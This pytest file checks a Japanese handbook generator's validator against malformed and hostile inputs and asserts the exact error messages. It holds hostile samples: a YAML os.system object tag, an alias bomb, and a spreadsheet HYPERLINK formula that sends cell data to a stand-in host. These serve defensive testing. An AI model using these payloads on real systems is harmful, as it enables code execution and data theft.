"""A corpus of bad inputs, tried as a careless editor and a hostile department would.

Each case is a small project (the ``project`` fixture's files, some replaced) with the exact
messages ``handbook validate`` must print and its exit status: never a traceback, never content
that vanishes without a word. The same corpus checks that the published JSON Schemas accept
exactly what validation accepts, as far as a schema can say it (``schema``). Property-based
tests try the YAML loader with any text.
"""

from __future__ import annotations

import datetime
import json
from dataclasses import dataclass
from pathlib import Path

import jsonschema
import pytest
import yaml
from hypothesis import assume, example, given, settings, strategies as st

from generator.cli import main
from generator.errors import Problems
from generator.sources import SourceText
from generator.yamlfile import LocatedDict, LocatedList, parse_yaml

from .conftest import BASE_FILES, CHAPTER, CONTACTS_NOTICE, POLICY, ROOT, SOURCE, examples

CH = "content/miyako/obligations/01-password.yaml"
POL = "content/miyako/policy.yaml"
QUIZ_PATH = "quizzes/miyako/01.yaml"
QUIZ = """\
questions:
  - id: miyako.q-leak
    question: パスワードが漏れたかもしれません。どうしますか。
    choices: [情報セキュリティ管理者に報告する, 様子を見る]
    answer: 0
    explanation: 流出したら速やかに報告します。
    cites: [miyako.password-report-leak]
"""
BUILD_INFO = "dist/build-info.json"


def build_info(obligations: int, policy: str = "miyako") -> str:
    return json.dumps({"policies": {policy: {"revision": "2026-04-01", "obligations": obligations, "questions": 0}}})


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@dataclass
class Case:
    files: dict[str, str | bytes | None]
    """Files replacing the base project's (None deletes one)."""
    expected: list[str]
    """Every line ``handbook validate`` writes to stderr, the count line aside."""
    schema: str | None = "refused"
    """What the JSON Schemas say of the YAML files: ``refused`` (some file is invalid), ``accepted``
    (the fault lies across files or in the source, beyond a schema), None (the YAML itself is refused
    before any schema applies: syntax, encoding, tags, anchors)."""
    status: int = 2
    link: str = ""
    """A file to create as a symbolic link to a copy of the chapter outside the project."""


def chapter(old: str, new: str) -> dict[str, str]:
    assert old in CHAPTER
    return {CH: CHAPTER.replace(old, new, 1)}


def policy(old: str, new: str) -> dict[str, str]:
    assert old in POLICY
    return {POL: POLICY.replace(old, new, 1)}


CASES: dict[str, Case] = {
    # --- YAML the loader refuses, with a message at the line where the broken construct opens ---
    "form feed from a PDF copy": Case(
        chapter("他者に知られない", "他者に\x0c知られない"), [
            f"{CH}:7: 制御文字（U+000C）が含まれています。PDF などから貼り付けたときに混じることがあります。削除してください。",
        ], None),
    "NUL byte": Case(chapter("title: パスワード", "title: パス\x00ワード"), [
            f"{CH}:2: 制御文字（U+0000）が含まれています。PDF などから貼り付けたときに混じることがあります。削除してください。",
        ], None),
    "tag on a value": Case(chapter("modality: must\n", "modality: !important must\n"), [
            f"{CH}:9: タグ（!important）は使えません。値だけを書いてください（「!」で始まる文字列なら引用符で囲みます）。",
        ], None),
    "python object tag": Case(
        chapter("summary: パスワードを他人に知られないようにする", 'summary: !!python/object/apply:os.system ["echo"]'), [
            f"{CH}:11: タグ（!!python/object/apply:os.system）は使えません。値だけを書いてください（「!」で始まる文字列なら引用符で囲みます）。",
        ], None),
    "impossible date": Case(policy('revision: "2026-04-01"', "revision: 2026-02-30"), [
            f"{POL}:4: 日付「2026-02-30」は存在しません。実在する日付を YYYY-MM-DD の形で書いてください。",
        ]),
    "deep nesting": Case(chapter('title: パスワード', "title: " + nested(60)), [
            f"{CH}:2: 入れ子が深すぎます（20 段まで）。字下げを確かめてください。",
        ]),
    "unclosed double quote": Case(chapter('number: "1"', 'number: "1'), [
            f"{CH}:1: この行で始まる引用符（\" または '）が閉じていません。値の終わりに同じ引用符を書いてください。",
        ], None),
    "unclosed single quote": Case(chapter("title: パスワード", "title: 'パスワード"), [
            f"{CH}:2: この行で始まる引用符（\" または '）が閉じていません。値の終わりに同じ引用符を書いてください。",
        ], None),
    "unclosed flow list": Case(chapter("actors: [staff]\n    modality: must\n    topic: passwords\n    summary: パスワードを他人",
                                       "actors: [staff\n    modality: must\n    topic: passwords\n    summary: パスワードを他人"), [
            f"{CH}:8: この行で始まる [ が ] で閉じていません。値に括弧を含めるときは値全体を引用符で囲んでください。",
        ], None),
    "colon inside a plain value": Case(chapter("title: パスワード", "title: 注意: パスワード"), [
            f"{CH}:2: この行の「: 」の位置が正しくありません。値に「: 」を含めるときは値全体を引用符で囲み、字下げが前の行とそろっているか確かめてください。",
        ], None),
    "indentation out of line": Case(chapter("    modality: must\n    topic: passwords\n    summary: パスワードを他人",
                                            "    modality: must\n   topic: passwords\n    summary: パスワードを他人"), [
            f"{CH}:10: 字下げ（行頭の空白の数）が前の項目とそろっていません。同じ階層の項目は同じ数の空白で始めてください。",
        ], None),
    "line without a colon": Case(chapter("title: パスワード\n", "title: パスワード\nobligations の前のメモ\n"), [
            f"{CH}:3: 「項目: 値」の「: 」がありません。前の行の続きなら字下げをそろえ、値の中の改行なら引用符で囲んでください。",
        ], None),
    "value starting with @": Case(chapter("title: パスワード", "title: @パスワード"), [
            f"{CH}:2: 「@」や「`」などで始まる値は引用符で囲んでください。",
        ], None),
    "value starting with *": Case(chapter("title: パスワード", "title: *重要 パスワード"), [
            f"{CH}:2: 「&」「*」で始まる値は引用符で囲んでください（アンカー・エイリアスは使えません）。",
        ], None),
    "two documents": Case({CH: CHAPTER + "---\nnumber: \"2\"\n"}, [
            f"{CH}:26: 1つのファイルに書ける文書は1つです。「---」の行を削除してください。",
        ], None),
    "merge key": Case(chapter('title: パスワード', "title: パスワード\n<<: {number: \"9\"}"), [
            f"{CH}:3: マージキー（<<）は使えません。値をそのまま書いてください。",
        ], None),
    "anchor and alias": Case(chapter('number: "1"\ntitle: パスワード', 'number: &n "1"\ntitle: *n'), [
            f"{CH}:1: アンカー・エイリアス（&n）は使えません。値をそのまま書いてください。",
            f"{CH}:2: アンカー・エイリアス（*n）は使えません。値をそのまま書いてください。",
        ], None),
    "alias bomb": Case({CH: CHAPTER + "lol: &a [x, x, x, x, x, x, x, x, x]\n"
                        "lol2: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nlol3: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"}, [
            f"{CH}:26: アンカー・エイリアス（&a）は使えません。値をそのまま書いてください。",
            f"{CH}:27: アンカー・エイリアス（&b）は使えません。値をそのまま書いてください。",
            f"{CH}:27: アンカー・エイリアス（*a）は使えません。値をそのまま書いてください。",
            f"{CH}:28: アンカー・エイリアス（*b）は使えません。値をそのまま書いてください。",
        ], None),
    "duplicate key": Case(chapter('title: パスワード', 'title: パスワード\ntitle: 重複'), [
            f"{CH}:3: キー「title」が重複しています（2行目にもあります）。",
        ], None),
    "tab indentation": Case(chapter("    modality: must\n", "\tmodality: must\n"), [
            f"{CH}:9: タブ文字が使われています。YAML の字下げには半角スペースを使ってください。",
        ], None),
    "YAML in cp932": Case({CH: CHAPTER.encode("cp932")}, [
            f"{CH}:2: このファイルは Shift_JIS（cp932）で保存されているようです。UTF-8 で保存し直してください。",
        ], None),
    "broken UTF-8": Case({CH: CHAPTER.encode("utf-8")[:-4] + b"\xff\xfe\n"}, [
            f"{CH}:25: UTF-8 として読めない文字があります。ファイルを UTF-8 で保存し直してください。",
        ], None),
    "non-string key": Case(chapter('title: パスワード', 'title: パスワード\n2026: 年'), [
            f"{CH}:3: 項目名（キー）「2026」は文字列で書いてください（引用符で囲みます）。",
        ]),
    "file too large": Case({CH: CHAPTER + "# " + "あ" * 400_000 + "\n"}, [
            f"{CH}: ファイルが大きすぎます（1,201,004 バイト。上限は 1,000,000 バイト）。複数のファイルに分けてください。",
        ], "accepted"),
    "number with too many digits": Case(chapter('number: "1"', "number: " + "9" * 5000), [
            f"{CH}:1: 値「9999999999999999999999999999999999999999」を読めません。文字列なら引用符で囲んでください。",
        ], None),
    # --- content that would vanish without a word ---
    "empty obligations file": Case({CH: ""}, [
            f"{CH}: ファイルが空です（コメントしかありません）。内容を消してしまったのなら元に戻し、不要なファイルなら削除してください。",
        ], None),
    "comment-only obligations file": Case({CH: "# 第1章は改正で削除予定\n"}, [
            f"{CH}: ファイルが空です（コメントしかありません）。内容を消してしまったのなら元に戻し、不要なファイルなら削除してください。",
        ], None),
    "emptied policy.yaml": Case({POL: "\n"}, [
            f"{POL}: ファイルが空です（コメントしかありません）。内容を消してしまったのなら元に戻し、不要なファイルなら削除してください。",
        ], None),
    "chapter without obligations": Case({CH: 'number: "1"\ntitle: パスワード\nobligations: []\n'}, [
            f"{CH}:1: この章には義務（obligations）も除外文（not_obligations）もありません。内容を消してしまったのなら元に戻してください。",
        ]),
    "policy without obligations": Case({CH: None}, [
            f"{POL}: 義務が1件もありません（content/miyako/obligations/*.yaml）。義務のファイルを消してしまっていないか確かめてください。",
        ], "accepted"),
    "no content at all (wrong folder)": Case(dict.fromkeys(BASE_FILES), [
            "content: 規程（content/<規程>/policy.yaml）が1つもありません。プロジェクトのフォルダで実行するか、--root で指定してください。",
            "content/roles.yaml: ファイルがありません。",
            "content/topics.yaml: ファイルがありません。",
        ], "accepted"),
    "content folder without policy.yaml": Case({"content/kyoto/source.txt": SOURCE}, [
            "content/kyoto/policy.yaml: ファイルがありません。フォルダ content/kyoto の内容が使われません（規程を外すのならフォルダごと削除してください）。",
        ], "accepted"),
    "quizzes of a policy that does not exist": Case({"quizzes/kyouto/01.yaml": QUIZ}, [
            "quizzes/kyouto: 規程「kyouto」（content/kyouto/policy.yaml）がないため、この問題は使われません。フォルダ名を確かめてください。",
        ], "accepted"),
    "fewer obligations than published": Case(
        {BUILD_INFO: build_info(3)}, [
            f"{POL}: 義務が 2 件に減っています（前回の公開では 3 件）。規程からなくなった義務は削除せず retired: true にしてください。意図して減らすときは policy.yaml に allow_fewer_obligations: true と書いてください。",
        ], "accepted"),
    "published policy gone": Case({BUILD_INFO: build_info(2, "nabari")}, [
            "content/nabari/policy.yaml: 前回の公開（dist/build-info.json）にあった規程「nabari」がありません。規程を外すのなら dist/build-info.json を削除してください。",
        ], "accepted"),
    "unreadable build record": Case({BUILD_INFO: "{not json"}, [
            "dist/build-info.json: 前回の公開の記録を読めません。handbook build で作り直すか、このファイルを削除してください。",
        ], "accepted"),
    # --- fields a schema can check ---
    "revision not a date": Case(policy('revision: "2026-04-01"', 'revision: "next year"'), [
            f"{POL}:4: 「revision」は実在する日付を YYYY-MM-DD の形で書いてください（「next year」は日付ではありません）。",
        ]),
    "revision a quoted impossible date": Case(policy('revision: "2026-04-01"', 'revision: "2026-13-01"'), [
            f"{POL}:4: 「revision」は実在する日付を YYYY-MM-DD の形で書いてください（「2026-13-01」は日付ではありません）。",
        ]),
    "revision without hyphens": Case(policy('revision: "2026-04-01"', 'revision: "20260401"'), [
            f"{POL}:4: 「revision」は実在する日付を YYYY-MM-DD の形で書いてください（「20260401」は日付ではありません）。",
        ]),
    "actors as a string": Case(chapter("actors: [staff]\n    modality: must\n    topic: passwords\n    summary: パスワードを他人",
                                       "actors: staff\n    modality: must\n    topic: passwords\n    summary: パスワードを他人"), [
            f"{CH}:8: 「actors」はリスト（- で始まる行）で書いてください。",
        ]),
    "number for a string": Case(chapter('number: "1"', "number: 1"), [
            f"{CH}:1: 「number」は文字列で書いてください（数字だけの値は引用符で囲みます）。",
        ]),
    "float clause": Case(chapter("clause: 1.1 ②", "clause: 1.10"), [
            f"{CH}:13: 「clause」は文字列で書いてください（数字だけの値は引用符で囲みます）。",
        ]),
    "field too long": Case(chapter("summary: パスワードを他人に知られないようにする", "summary: " + "長" * 5001), [
            f"{CH}:11: 「summary」が長すぎます（5,001 文字。上限は 5,000 文字）。",
        ]),
    "typo in a field name": Case(chapter("summary: パスワードを他人", "sumary: パスワードを他人"), [
            f"{CH}:4: 必須の項目「summary」がありません。",
            f"{CH}:11: 不明な項目「sumary」があります（「summary」の書き間違いではありませんか。）。",
        ]),
    "unknown modality": Case(chapter("modality: must\n", "modality: perhaps\n"), [
            f"{CH}:9: 「modality」の値「perhaps」は使えません（使える値: must, must_not, may, should, shall）。",
        ]),
    "string for a boolean": Case(chapter("    summary: パスワードを他人に知られないようにする\n",
                                         "    summary: パスワードを他人に知られないようにする\n    retired: \"yes\"\n"), [
            f"{CH}:12: 「retired」は true か false で書いてください。",
        ]),
    "string for an integer": Case({QUIZ_PATH: QUIZ.replace("answer: 0", 'answer: "0"')}, [
            "quizzes/miyako/01.yaml:5: 「answer」は整数で書いてください。",
        ]),
    "list at the top of a file": Case({CH: "- number: \"1\"\n"}, [
            f"{CH}:1: ファイルの最上位は「項目: 値」の形（マッピング）で書いてください。",
        ]),
    "unknown key at the top of a chapter": Case({CH: CHAPTER.replace("not_obligations:", "not_obligation:")}, [
            f"{CH}:22: 不明な項目「not_obligation」があります（使える項目: not_obligations, number, obligations, title）。",
        ]),
    "missing required field": Case(chapter("    topic: passwords\n    summary: パスワードを他人", "    summary: パスワードを他人"), [
            f"{CH}:4: 必須の項目「topic」がありません。",
        ]),
    # --- across files and against the source ---
    "clause not in the source": Case(chapter("clause: 1.1 ②", "clause: 1.1 ⑤"), [
            f"{CH}:13: clause「1.1 ⑤」は原文（source.txt）の条項番号にありません。原文に印刷された番号を上の階層から順に書いてください（例: 「5.4 (３) ④」「第36条第1号」）。",
        ], "accepted"),
    "clause under the wrong section": Case(chapter("clause: 1.1 ①", "clause: 1.2 ①"), [
            f"{CH}:5: clause「1.2 ①」は原文（source.txt）の条項番号にありません。原文に印刷された番号を上の階層から順に書いてください（例: 「5.4 (３) ④」「第36条第1号」）。",
        ], "accepted"),
    "quote not verbatim": Case(chapter("他者に知られない", "他人に知られない"), [
            f"{CH}:7: text が原文（source.txt）にありません。原文を一字一句そのまま引用してください: 「パスワードは、他人に知られないように管理しなければならない。」",
        ], "accepted"),
    "unknown role": Case(chapter("report_to: [security-manager]", "report_to: [ciso]"), [
            f"{CH}:21: 義務「miyako.password-report-leak」の report_to にある「ciso」はテスト市の役割にありません。",
        ], "accepted"),
    "duplicate id": Case(chapter("id: miyako.password-report-leak", "id: miyako.password-keep-secret"), [
            f"{CH}:12: id「miyako.password-keep-secret」が重複しています（content/miyako/obligations/01-password.yaml:4 にもあります）。",
        ], "accepted"),
    "cascade: quiz citing a broken file": Case({QUIZ_PATH: QUIZ, CH: CHAPTER.replace("title: パスワード", "title: [パスワード")}, [
            f"{CH}:2: この行で始まる [ が ] で閉じていません。値に括弧を含めるときは値全体を引用符で囲んでください。",
        ], None),
    "source.txt in cp932": Case({"content/miyako/source.txt": SOURCE.encode("cp932")}, [
            "content/miyako/source.txt:1: このファイルは Shift_JIS（cp932）で保存されているようです。UTF-8 で保存し直してください。",
        ], "accepted"),
    "symlink outside the project": Case({CH: None}, [
            f"{CH}: プロジェクトの外にあるファイルを指しています（シンボリックリンク）。ファイルそのものをプロジェクトの中に置いてください。",
        ], "accepted", link=CH),
}


def make(project, tmp_path_factory, case: Case) -> Path:
    root = project(case.files)
    if case.link:
        outside = tmp_path_factory.mktemp("outside") / "chapter.yaml"
        outside.write_text(CHAPTER, encoding="utf-8")
        (root / case.link).parent.mkdir(parents=True, exist_ok=True)
        (root / case.link).symlink_to(outside)
    return root


def validate(capsys) -> tuple[int, list[str]]:
    status = main(["validate"])
    captured = capsys.readouterr()
    return status, captured.err.splitlines()


@pytest.mark.parametrize("name", CASES)
def test_bad_input_is_refused_with_exact_messages(name, project, tmp_path_factory, capsys):
    case = CASES[name]
    make(project, tmp_path_factory, case)
    status, err = validate(capsys)
    assert (status, err) == (case.status, case.expected + [f"{len(case.expected)} 件の問題があります。何も書き出していません。"])


# --- the JSON Schemas say the same -----------------------------------------------------------------

SCHEMA_OF = {"content/roles.yaml": "roles", "content/topics.yaml": "topics", "content/*/policy.yaml": "policy",
             "content/*/obligations/*.yaml": "obligations", "quizzes/*/*.yaml": "questions"}


class EditorLoader(yaml.SafeLoader):
    """YAML as the editor's YAML extension reads it against the schema: a date is a string (YAML 1.2)."""


EditorLoader.add_constructor("tag:yaml.org,2002:timestamp", yaml.SafeLoader.construct_yaml_str)


def schema_errors(root: Path) -> list[str]:
    """``path: message`` for every YAML file of the project the published schemas refuse."""
    errors = []
    for pattern, name in SCHEMA_OF.items():
        schema = json.loads((ROOT / "schema" / f"{name}.schema.json").read_text(encoding="utf-8"))
        validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
        for path in sorted(root.glob(pattern)):
            data = yaml.load(path.read_text(encoding="utf-8"), Loader=EditorLoader)
            errors += [f"{path.relative_to(root)}: {e.message}" for e in validator.iter_errors(data)]
    return errors


@pytest.mark.parametrize("name", [n for n, c in CASES.items() if c.schema is not None])
def test_json_schemas_refuse_exactly_what_validation_refuses_for_its_form(name, project, tmp_path_factory):
    case = CASES[name]
    errors = schema_errors(make(project, tmp_path_factory, case))
    assert bool(errors) == (case.schema == "refused"), errors


def test_json_schemas_accept_the_real_content_and_the_small_project(project):
    assert schema_errors(ROOT) == []
    assert schema_errors(project()) == []


def test_json_schemas_are_up_to_date():
    assert main(["--root", str(ROOT), "schema", "--check"]) == 0


# --- the YAML loader, with any text ------------------------------------------------------------------

FRAGMENTS = ["a", "b", "id", ":", ": ", "- ", "-", "\n", "  ", " ", "'", '"', "[", "]", "{", "}", ",", "#", "&x", "*x",
             "!", "!!str", "<<", "---", "...", "|", ">", "?", "%", "@", "`", "\t", "\x0c", "\x00", "2026-02-30",
             "2026-04-01", "1", "1.5", "true", "null", "~", "9" * 30, "漢字", "\\", "\r", "\u2028", "\ufeff"]
yamlish = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)


def plain(value):
    """A located value as plain Python, to compare with PyYAML's own reading."""
    if isinstance(value, dict):
        return {k: plain(v) for k, v in value.items()}
    if isinstance(value, list):
        return [plain(v) for v in value]
    return value


def located_everywhere(value) -> bool:
    if isinstance(value, dict):
        return isinstance(value, LocatedDict) and value.line >= 1 and all(located_everywhere(v) for v in value.values())
    if isinstance(value, list):
        return isinstance(value, LocatedList) and len(value.item_lines) == len(value) and all(map(located_everywhere, value))
    return isinstance(value, (str, int, float, bool, datetime.date, type(None)))


@settings(max_examples=examples(400), deadline=None)
@given(st.one_of(st.text(), yamlish))
def test_any_text_gives_a_value_or_problems_never_an_exception(text):
    problems = Problems()
    value = parse_yaml(text, "x.yaml", problems)
    if problems:
        assert value is None
        assert all(p.path == "x.yaml" and p.line >= 0 and p.message.endswith("。") for p in problems.items)
    else:
        assert located_everywhere(value)


@settings(max_examples=examples(300), deadline=None)
@given(yamlish)
@example("\r\ufeff")  # a byte order mark inside the text: libyaml skips it, PyYAML reads it as a value
def test_what_the_loader_accepts_it_reads_as_pyyaml_does(text):
    problems = Problems()
    value = parse_yaml(text, "x.yaml", problems)
    try:
        expected = yaml.safe_load(text)
    except (yaml.YAMLError, ValueError):  # PyYAML fails on what the loader refuses or reads as a string (<<)
        return
    if not problems:
        assert plain(value) == expected


@settings(max_examples=examples(100), deadline=None)
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
                    max_leaves=20))
def test_data_written_as_yaml_reads_back_the_same(data):
    text = yaml.safe_dump(data, allow_unicode=True)
    assume(yaml.safe_load(text) == data)  # PyYAML's own round trip turns a lone NEL (U+0085) into a space
    problems = Problems()
    assert plain(parse_yaml(text, "x.yaml", problems)) == data, problems.items


# --- content that may shrink on purpose, the build record -----------------------------------------

def test_fewer_obligations_pass_when_the_policy_allows_it(project, capsys):
    project({BUILD_INFO: build_info(3), POL: POLICY.replace("roles:", "allow_fewer_obligations: true\nroles:")})
    assert validate(capsys) == (0, [CONTACTS_NOTICE])


def test_as_many_obligations_as_published_pass(project, capsys):
    project({BUILD_INFO: build_info(2)})
    assert validate(capsys) == (0, [CONTACTS_NOTICE])


def test_build_info_is_deterministic_json_of_each_policys_counts(project):
    from generator.content import load_content
    from generator.manifest import build_info as info

    root = project({QUIZ_PATH: QUIZ, CH: CHAPTER.replace(
        "    summary: パスワードを他人に知られないようにする\n", "    summary: パスワードを他人に知られないようにする\n    retired: true\n")})
    data = info(load_content(root))
    assert data == info(load_content(root))
    assert json.loads(data) == {"policies": {"miyako": {"revision": "2026-04-01", "obligations": 2, "questions": 1}}}
    assert data.decode("utf-8").endswith("\n")


# --- clause numbers -----------------------------------------------------------------------------------

ARTICLES = """\
第1章 総則
(目的)
第1条 この規則は、目的を定める。
第2条 用語の意義は、次に定めるところによる。
(1) 情報システム システムをいう。
(2) 部長等 次に掲げる者をいう。
ア 部長
イ 次長
2 前項の規定にかかわらず、次に掲げる。
(1) 例外
第3条の2 職員は、遵守しなければならない。
付則
この規則は、公布の日から施行する。
別表第1(第13条関係)
"""


@pytest.mark.parametrize("clause, found", [
    ("第1条", True), ("第1条第1項", True), ("第2条第1号", True), ("第2条第1項第2号", True), ("第2条第2号ア", True),
    ("第2条第2項第1号", True), ("第2条第1号～第2号", True), ("第3条の2", True), ("付則", True), ("付則（改正規則）", True),
    ("別表第1", True), ("別表第1(第13条関係)", True), ("前文", True),
    ("第2条第3号", False), ("第2条第3項", False), ("第4条", False), ("第2条第2号ウ", False), ("第2条第1号～第3号", False),
    ("別表第2", False), ("別記様式", False), ("第1条第2項", False),
])
def test_clause_numbers_of_article_numbered_rules(clause, found):
    assert SourceText(Path("source.txt"), ARTICLES.splitlines()).has_clause(clause) is found


@pytest.mark.parametrize("policy_id, clause, found", [
    ("miyako", "5.4 (３) ④", True), ("miyako", "5.4 (3) ④", True), ("miyako", "１ (２) ①", True),
    ("miyako", "6.1 (10) ①", True), ("miyako", "5.4 (３) ⑨", False), ("miyako", "5.9 (１)", False),
    ("nabari", "４ (5) イ", True), ("nabari", "６ (３) イ (ア)", True), ("nabari", "４ (5) ウ", False),
    ("moriyama", "第36条第1号", True), ("moriyama", "第9条第3項第1号～第7号", True), ("moriyama", "第36条第9号", False),
])
def test_clause_numbers_of_the_real_sources(policy_id, clause, found):
    source = SourceText.read(ROOT / "content" / policy_id / "source.txt")
    assert source.has_clause(clause) is found


# --- spreadsheets: nothing a spreadsheet would run ---------------------------------------------------

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"クリック")'


def test_checklists_and_the_collected_report_write_formula_like_values_as_text(project):
    import csv
    import io

    from openpyxl import load_workbook

    from generator.collect import collect, write_report
    from generator.content import load_content
    from generator.renderers.checklists import checklist_csv, checklist_xlsx

    root = project({
        CH: CHAPTER.replace("summary: パスワードを他人に知られないようにする", f"summary: '{HOSTILE}'"),
        "content/topics.yaml": BASE_FILES["content/topics.yaml"].replace("name: パスワード", "name: \"-2+3\""),
    })
    content = load_content(root)
    policy = content.policy("miyako")
    wb = load_workbook(io.BytesIO(checklist_xlsx(content, policy, "staff")))
    ws = wb["チェックリスト"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for value in (HOSTILE, "-2+3"):
        assert (cells[value].data_type, cells[value].quotePrefix) == ("s", True)
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    rows = list(csv.reader(io.StringIO(checklist_csv(content, policy, "staff").decode("utf-8-sig"))))
    assert "'" + HOSTILE in rows[1] + rows[2] and "'-2+3" in rows[1]
    assert not [v for row in rows for v in row if v.startswith(("=", "+", "-", "@", "\t", "\r"))]

    for name, unit in (("=cmd.xlsx", "=1+2"), ("@SUM(1).xlsx", None)):  # 所属 typed in, or taken from the file name
        ws["C5"] = unit
        if unit:
            ws["C5"].data_type = "s"
        wb.save(root / name)
    result = collect(content, [root / "=cmd.xlsx", root / "@SUM(1).xlsx"])
    assert list(result.rejected) == []
    [report] = [p for p in write_report(result, root / "reports", root) if p.suffix == ".xlsx"]
    units = load_workbook(report)["所属別"]
    values = {c.value: c for row in units.iter_rows() for c in row}
    for value in ("=1+2", "=cmd.xlsx", "@SUM(1)", "@SUM(1).xlsx"):
        assert (values[value].data_type, values[value].quotePrefix) == ("s", True)
    assert not [c.coordinate for row in units.iter_rows() for c in row if c.data_type == "f"]


# --- returned checklists a hostile or careless unit might send --------------------------------------

def _far_cell(ws):
    ws["H1048576"] = "x"


def _long_status(ws):
    ws["G9"] = "済" * 100_000


def _formula_status(ws):
    ws["G9"] = "=1+1"  # a formula without a cached value: read as empty, an unanswered row


def _number_id(ws):
    ws["B10"] = 12345


RETURNED = {
    "far below the table": (_far_cell, [
        "x.xlsx:A1048576: 表の下の1048576行目に記入か書式があります。表の外には何も書かないでください。"]),
    "a huge status": (_long_status, [
        "x.xlsx:G9: 状況「" + "済" * 40 + "…」は選べません。実施・一部実施・未実施・該当なし のどれかを選んでください。"]),
    "a number over an id": (_number_id, ["x.xlsx:B10: id「12345」はこのチェックリストにありません。"]),
    "a formula status": (_formula_status, []),
}


@pytest.mark.parametrize("name", RETURNED)
def test_returned_checklist_problems_name_the_cell_quickly(name, project):
    import io
    import time

    from openpyxl import load_workbook

    from generator.collect import collect
    from generator.content import load_content
    from generator.renderers.checklists import checklist_xlsx

    root = project()
    content = load_content(root)
    wb = load_workbook(io.BytesIO(checklist_xlsx(content, content.policy("miyako"), "staff")))
    ws = wb["チェックリスト"]
    ws["C5"] = "総務課"
    edit, expected = RETURNED[name]
    edit(ws)
    wb.save(root / "x.xlsx")
    start = time.monotonic()
    result = collect(content, [Path("x.xlsx")])
    assert time.monotonic() - start < 5
    assert list(result.problems) == expected


def test_an_oversized_workbook_is_refused_unread(project):
    from generator.collect import collect
    from generator.content import load_content

    root = project()
    (root / "x.xlsx").write_bytes(b"PK" + b"\0" * 10_000_001)
    result = collect(load_content(root), [Path("x.xlsx")])
    assert list(result.problems) == [
        "x.xlsx: ファイルが大きすぎます（上限 10,000,000 バイト）。ハンドブックのチェックリストに記入したものを提出してください。"]


UNIT_LISTS = {
    "EUC-JP": ("units.txt", "総務課\n企画課\n".encode("euc-jp"), 2, ["units.txt:2: 読めない文字があります。所属一覧は UTF-8 か Shift_JIS で保存してください。"]),
    "a line far too long": ("units.csv", ("所属\n総務課\n" + "課" * 101 + "\n").encode("utf-8"), 2,
                            ["units.csv:3: 所属名が長すぎます（101 文字。上限は 100 文字）。"]),
    "too large": ("units.txt", b"a\n" * 600_000, 2, ["units.txt: 所属一覧が大きすぎます（上限 1,000,000 バイト）。"]),
}


@pytest.mark.parametrize("name", UNIT_LISTS)
def test_unit_lists_in_another_form_are_refused_with_the_line(name, project, capsys):
    file, data, status, expected = UNIT_LISTS[name]
    root = project()
    (root / file).write_bytes(data)
    assert main(["checklist", "collect", str(root), "--units", file]) == status
    assert capsys.readouterr().err.splitlines() == expected + [f"{len(expected)} 件の問題があります。何も書き出していません。"]


EDITABLE = {**BASE_FILES, QUIZ_PATH: QUIZ}


@pytest.mark.slow
@settings(max_examples=examples(200), deadline=None)
@given(st.sampled_from(sorted(n for n in EDITABLE if n.endswith(".yaml"))), st.floats(0, 1), st.integers(0, 40), yamlish)
def test_any_edit_of_a_content_file_gives_content_or_messages_never_an_exception(name, where, cut, inserted):
    import tempfile

    from generator.content import load_content
    from generator.errors import HandbookError

    from .conftest import write_files

    text = EDITABLE[name]
    at = int(where * len(text))
    with tempfile.TemporaryDirectory() as folder:
        root = write_files(Path(folder), {**EDITABLE, name: text[:at] + inserted + text[at + cut:]})
        try:
            load_content(root)
        except HandbookError as err:
            assert err.problems and all(p.message and not p.path.startswith("/") for p in err.problems)
